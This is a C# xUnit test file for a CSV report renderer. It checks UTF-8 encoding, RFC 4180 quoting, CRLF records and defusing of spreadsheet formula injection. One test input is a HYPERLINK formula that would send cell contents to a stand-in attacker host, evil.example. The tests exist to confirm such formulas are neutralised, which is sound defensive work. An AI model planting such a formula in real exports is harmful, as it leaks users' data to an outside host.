using System.Text;
using Pmf.Pipeline.Feedback;
using Pmf.Pipeline.Quality;
using static Pmf.Pipeline.Tests.Reports.ReportSamples;

namespace Pmf.Pipeline.Tests.Reports;

public sealed class SubmissionReportCsvTests
{
    [Fact]
    public void The_file_is_UTF8_with_a_byte_order_mark_so_Excel_reads_pounds_and_accents()
    {
        var bytes = SubmissionReportCsv.Render(Report(Image with { RawValue = "£1,234 café" }));

        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
        Assert.StartsWith("Sheet,Row,Column,Indicator,Period,Rule,Severity,You entered,What is wrong and what to do\r\n", text, StringComparison.Ordinal);
        Assert.Contains(",\"£1,234 café\",", text, StringComparison.Ordinal);
    }

    [Fact]
    public void A_formula_typed_by_a_sender_is_defused_with_a_leading_quote()
    {
        var text = Text(Report(Formula));

        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",", text, StringComparison.Ordinal);
        Assert.DoesNotContain(",=HYPERLINK", text, StringComparison.Ordinal);
        Assert.DoesNotContain(",\"=HYPERLINK", text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("=1+2", "'=1+2")]
    [InlineData("+44 1234", "'+44 1234")]
    [InlineData("-3", "'-3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tx", "'\tx")]
    [InlineData("plain", "plain")]
    [InlineData("a \"quoted\" word", "\"a \"\"quoted\"\" word\"")]
    [InlineData("two\nlines", "\"two\nlines\"")]
    [InlineData("", "")]
    public void Cells_are_defused_and_quoted_per_RFC_4180(string cell, string expected) =>
        Assert.Equal(expected, SubmissionReportCsv.Field(cell));

    [Fact]
    public void Each_issue_is_one_record_ending_in_CRLF_even_when_a_message_spans_lines()
    {
        var text = Text(Report(Script, Image with { Message = "Line one\r\nLine two" }, new QualityIssue("DQ001", Severity.Error, "No header row.")));

        Assert.Contains(",\"Line one\r\nLine two\"\r\n", text, StringComparison.Ordinal);
        Assert.Equal(6, text.Split("\r\n").Length); // header, three issues (one spanning two lines), the empty tail
        Assert.EndsWith(",DQ001,Error,,No header row.", text.TrimEnd(), StringComparison.Ordinal);
    }

    private static string Text(SubmissionReport report)
    {
        var bytes = SubmissionReportCsv.Render(report);
        return Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
    }
}
